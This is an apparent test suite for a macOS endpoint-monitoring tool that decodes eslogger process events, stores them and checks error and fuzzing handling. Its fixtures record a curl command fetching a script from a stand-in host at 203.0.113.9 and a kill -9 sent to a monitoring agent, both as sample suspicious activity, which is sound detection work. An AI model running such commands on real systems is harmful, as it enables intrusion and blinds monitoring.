// macOS EndpointSecurity through eslogger: fixtures in eslogger's JSON (test/fixtures/eslogger/README.md
// says where each field comes from) decoded into our event kinds and stored in the real tables; and
// the real stream reader and process handling run against a child process at the other end of the
// pipe. That child is a script standing in for /usr/bin/eslogger (this is Linux): it only writes the
// fixture bytes, or eslogger's failure text, the way eslogger would. Everything that reads, decodes,
// classifies and stops it is the product's code.
import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { after, test } from 'node:test';
import { isDaemonEyeError } from '../src/errors/catalogue.ts';
import type { ExecEvent, ExitEvent, ForkEvent, KernelEvent, SecurityEvent } from '../src/normalize/kernel-event.ts';
import { decodeEsloggerLine, parseEsTime } from '../src/sources/eslogger/eslogger-decode.ts';
import { esPreflight } from '../src/sources/eslogger/eslogger-errors.ts';
import { EsloggerSource, type EsBatch } from '../src/sources/eslogger/eslogger-source.ts';
import { readLines } from '../src/sources/eslogger/line-reader.ts';
import { KernelEventWriter } from '../src/store/kernel-event-writer.ts';
import { openStoreForWriting } from '../src/store/open-store.ts';

const FIXTURE = join(import.meta.dirname, 'fixtures', 'eslogger', 'events.jsonl');
const work = mkdtempSync(join(tmpdir(), 'de-es-'));
after(() => rmSync(work, { recursive: true, force: true }));

const ns = (iso: string) => parseEsTime(iso);

function decodeFixture() {
  const events: (KernelEvent | SecurityEvent)[] = [];
  const errors: Record<string, number> = {};
  for (const line of readFileSync(FIXTURE, 'utf8').split('\n').filter(Boolean)) {
    const d = decodeEsloggerLine(line);
    if (d.ok) events.push(d.event);
    else errors[d.reason] = (errors[d.reason] ?? 0) + 1;
  }
  return { events, errors };
}

test('exec, fork, exit and signal lines map to our event kinds; unknown fields ignored; bad lines counted', () => {
  const { events, errors } = decodeFixture();
  assert.deepEqual(events.map((e) => e.kind), ['fork', 'exec', 'exit', 'security', 'exit', 'exec', 'exec']);
  const fork = events[0] as ForkEvent;
  assert.deepEqual([fork.pid, fork.childPid, fork.uid, fork.comm, fork.tid], [4700, 4711, 501, 'zsh', 900001]);
  const exec = events[1] as ExecEvent & { cwd?: string | null; startNs?: bigint };
  assert.deepEqual([exec.pid, exec.ppid, exec.filename, exec.comm, exec.uid, exec.euid, exec.gid], [4711, 4700, '/usr/bin/curl', 'curl', 501, 501, 20]);
  assert.deepEqual(exec.argv, ['curl', '-fsSL', 'http://203.0.113.9/x.sh']);
  assert.equal(exec.cwd, '/Users/ana');
  assert.equal(exec.startNs, ns('2026-11-18T10:00:01.000100Z'));
  assert.equal(exec.ktimeNs, 1_794_996_001_002_000_001n);
  const exit = events[2] as ExitEvent;
  assert.deepEqual([exit.pid, exit.exitCode, exit.signal, exit.comm], [4711, 6, 0, 'curl']);
  const sig = events[3] as SecurityEvent;
  assert.deepEqual([sig.op, sig.pid, sig.targetPid, sig.arg0, sig.name], ['signal', 4700, 4720, 9n, '/usr/local/bin/agentd']);
  const killed = events[4] as ExitEvent;
  assert.deepEqual([killed.pid, killed.exitCode, killed.signal, killed.uid], [4720, 0, 9, 0]);
  const future = events[5] as ExecEvent;
  assert.deepEqual([future.pid, future.filename, future.argv], [4730, '/usr/bin/python3', ['python3', '-c', 'print(1)']]);
  const old = events[6] as ExecEvent & { cwd?: string | null; startNs?: bigint };
  assert.equal(old.cwd, null, 'exec.cwd does not exist before message version 3');
  assert.equal(old.startNs, undefined, 'start_time does not exist before message version 3');
  assert.equal(old.tid, 0, 'thread does not exist before message version 4');
  assert.deepEqual(errors, { malformed_json: 1, unsupported_schema: 1, unknown_event: 1, bad_time: 1, missing_field: 1, not_an_object: 1 });
});

test('decoded eslogger events land in process_exec, process_fork, process_exit and process_security_events', () => {
  const db = openStoreForWriting(join(work, 'store.db'));
  try {
    const { events } = decodeFixture();
    const writer = new KernelEventWriter(db);
    const toEpochMs = (n: bigint) => Number(n / 1_000_000n);
    writer.write(events.filter((e): e is KernelEvent => e.kind !== 'security'), toEpochMs);
    writer.writeSecurity(events.filter((e): e is SecurityEvent => e.kind === 'security'), toEpochMs);
    assert.deepEqual(db.prepare('SELECT pid, command_line, filename FROM process_exec ORDER BY id').all(), [
      { pid: 4711, command_line: 'curl -fsSL http://203.0.113.9/x.sh', filename: '/usr/bin/curl' },
      { pid: 4730, command_line: 'python3 -c print(1)', filename: '/usr/bin/python3' },
      { pid: 4740, command_line: 'ls', filename: '/bin/ls' },
    ]);
    assert.deepEqual(db.prepare('SELECT parent_pid, child_pid FROM process_fork').all(), [{ parent_pid: 4700, child_pid: 4711 }]);
    assert.deepEqual(db.prepare('SELECT pid, exit_code, signal FROM process_exit ORDER BY id').all(), [{ pid: 4711, exit_code: 6, signal: 0 }, { pid: 4720, exit_code: 0, signal: 9 }]);
    assert.deepEqual(db.prepare('SELECT op, pid, target_pid, arg0 FROM process_security_events').all(), [{ op: 'signal', pid: 4700, target_pid: 4720, arg0: 9 }]);
  } finally {
    db.close();
  }
});

/** A script at the other end of the pipe, standing in for /usr/bin/eslogger. */
function fakeEslogger(name: string, body: string): string {
  const path = join(work, name);
  writeFileSync(path, `#!${process.execPath}\n${body}\n`);
  chmodSync(path, 0o755);
  return path;
}

test('the real stream reader and process handling: eslogger output split at odd places, then stopped', async () => {
  const argsFile = join(work, 'args.json');
  // Writes the fixture in 7-byte pieces (lines cut mid-way, several per read), then waits like eslogger.
  const path = fakeEslogger('eslogger-stream', `
    const fs = require('node:fs');
    fs.writeFileSync(${JSON.stringify(argsFile)}, JSON.stringify(process.argv.slice(2)));
    const data = fs.readFileSync(${JSON.stringify(FIXTURE)});
    let i = 0;
    const step = () => { if (i < data.length) { process.stdout.write(data.subarray(i, i + 7)); i += 7; setImmediate(step); } };
    step();
    setInterval(() => {}, 1000);`);
  const batches: EsBatch[] = [];
  let exited = false;
  const source = new EsloggerSource({ clientName: 'com.daemoneye.test', esloggerPath: path, onBatch: (b) => batches.push(b), onExit: () => (exited = true), startGraceMs: 5000 });
  await source.start();
  for (let i = 0; i < 400 && source.counters()['es_lines']! < 13; i++) await new Promise((r) => setTimeout(r, 25));
  await new Promise((r) => setImmediate(r));
  assert.match(source.health().reason ?? '', /DE_ES_SCHEMA/, 'a schema_version we do not know degrades the source visibly');
  await source.stop();
  assert.equal(exited, false, 'a stop is not reported as eslogger dying');
  assert.deepEqual(JSON.parse(readFileSync(argsFile, 'utf8')), ['exec', 'fork', 'exit', 'signal']);
  const all = batches.flatMap((b) => [...b.events, ...b.security]);
  assert.equal(all.length, 7);
  assert.deepEqual(all.map((e) => e.pid).sort(), [4700, 4700, 4711, 4711, 4720, 4740, 4730].sort());
  const c = source.counters();
  assert.equal(c['es_lines'], 13);
  assert.equal(c['es_events'], 7);
  assert.equal(c['decode_errors.malformed_json'], 1);
  assert.equal(c['decode_errors.unsupported_schema'], 1);
});

test('eslogger dying after it started is reported through onExit with its reason', async () => {
  const path = fakeEslogger('eslogger-dies', `
    process.stdout.write(require('node:fs').readFileSync(${JSON.stringify(FIXTURE)}, 'utf8').split('\\n')[0] + '\\n');
    setTimeout(() => { process.stderr.write('eslogger: lost connection to EndpointSecurity\\n'); process.exit(70); }, 50);`);
  const errors: string[] = [];
  const batches: EsBatch[] = [];
  const source = new EsloggerSource({ clientName: 'com.daemoneye.test', esloggerPath: path, onBatch: (b) => batches.push(b), onExit: (e) => errors.push(`${e.code} ${e.message}`) });
  await source.start();
  for (let i = 0; i < 200 && errors.length === 0; i++) await new Promise((r) => setTimeout(r, 25));
  assert.equal(errors.length, 1);
  assert.match(errors[0]!, /^DE_ES_EXITED .*com\.daemoneye\.test.*exit status 70.*lost connection/);
  assert.equal(batches.flatMap((b) => b.events).length, 1, 'the line written before dying is kept');
  assert.equal(source.health().state, 'unavailable');
  await source.stop();
});

test('eslogger refusing to start: not root, no Full Disk Access, too many clients, missing binary', async () => {
  const cases: [string, string][] = [
    ['ERROR: es_new_client: ES_NEW_CLIENT_RESULT_ERR_NOT_PRIVILEGED', 'DE_ES_NOT_ROOT'],
    ['ERROR: es_new_client: ES_NEW_CLIENT_RESULT_ERR_NOT_PERMITTED', 'DE_ES_NO_FULL_DISK_ACCESS'],
    ['(libEndpointSecurity.dylib) Failed to open service: 0xe00002d8: Caller lacks TCC authorization for Full Disk Access', 'DE_ES_NO_FULL_DISK_ACCESS'],
    ['ERROR: es_new_client: ES_NEW_CLIENT_RESULT_ERR_TOO_MANY_CLIENTS', 'DE_ES_TOO_MANY_CLIENTS'],
    ['Segmentation fault', 'DE_ES_EXITED'],
  ];
  for (const [i, [stderr, code]] of cases.entries()) {
    const path = fakeEslogger(`eslogger-fail-${i}`, `process.stderr.write(${JSON.stringify(stderr + '\n')}); process.exit(71);`);
    const source = new EsloggerSource({ clientName: 'com.daemoneye.monitor', esloggerPath: path, onBatch: () => assert.fail('no events expected') });
    await assert.rejects(source.start(), (e) => isDaemonEyeError(e) && e.code === code && e.message.includes('com.daemoneye.monitor') && e.hint.length > 0, stderr);
    assert.equal(source.health().state, 'unavailable');
  }
  const missing = new EsloggerSource({ clientName: 'x', esloggerPath: join(work, 'no-such-eslogger'), onBatch: () => {} });
  await assert.rejects(missing.start(), (e) => isDaemonEyeError(e, 'DE_ES_UNAVAILABLE') && /macOS 13/.test(e.message));
});

test('preflight: platform, macOS version and root are known before eslogger runs', () => {
  assert.equal(esPreflight({ platform: 'linux', release: '6.1.0', uid: 0 }, 'c')?.code, 'DE_ES_UNAVAILABLE');
  assert.equal(esPreflight({ platform: 'darwin', release: '21.6.0', uid: 0 }, 'c')?.code, 'DE_ES_OS_VERSION');
  assert.equal(esPreflight({ platform: 'darwin', release: 'garbage', uid: 0 }, 'c')?.code, 'DE_ES_OS_VERSION');
  assert.equal(esPreflight({ platform: 'darwin', release: '22.1.0', uid: 501 }, 'c')?.code, 'DE_ES_NOT_ROOT');
  assert.equal(esPreflight({ platform: 'darwin', release: '24.0.0', uid: 0 }, 'c'), null);
});

test('hostile input: an endless line is dropped up to its newline; random and mutated lines never throw', async () => {
  const stream = new PassThrough();
  const lines: string[] = [];
  const counters = readLines(stream, (l) => lines.push(l), 1024);
  stream.write('{"a":1}\n' + 'x'.repeat(600));
  stream.write('y'.repeat(600));
  stream.write('z'.repeat(600) + '\nafter\n' + 'tail');
  stream.end();
  await new Promise((r) => stream.on('end', r));
  assert.deepEqual(lines, ['{"a":1}', 'after', 'tail']);
  assert.equal(counters.tooLong, 1);

  const base = readFileSync(FIXTURE, 'utf8').split('\n').filter(Boolean).slice(0, 7).map((l) => JSON.parse(l) as Record<string, unknown>);
  const junk: unknown[] = [null, 1, -1.5, 'x', [], {}, true, 2 ** 60, { toString: 1 }, { __proto__: { pid: 1 } }];
  let seed = 7;
  const rand = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n);
  const mutate = (o: unknown, depth: number): unknown => {
    if (typeof o !== 'object' || o === null || depth > 6) return o;
    const copy: Record<string, unknown> = Array.isArray(o) ? ([...o] as unknown as Record<string, unknown>) : { ...(o as Record<string, unknown>) };
    const keys = Object.keys(copy);
    if (keys.length === 0) return copy;
    const k = keys[rand(keys.length)]!;
    copy[k] = rand(3) === 0 ? junk[rand(junk.length)] : mutate(copy[k], depth + 1);
    return copy;
  };
  let ok = 0;
  let bad = 0;
  for (let i = 0; i < 3000; i++) {
    const line = rand(10) === 0 ? JSON.stringify(junk[rand(junk.length)]) : JSON.stringify(mutate(base[rand(base.length)], 0));
    const d = decodeEsloggerLine(rand(20) === 0 ? line.slice(0, rand(line.length)) : line);
    if (d.ok) ok++;
    else bad++;
  }
  assert.equal(ok + bad, 3000);
  assert.ok(ok > 0 && bad > 0);
  assert.deepEqual(decodeEsloggerLine('{"schema_version":1,"version":7,"time":"2026-11-18T10:00:00Z","event":{"toString":{}}}'), { ok: false, reason: 'unknown_event' });
});
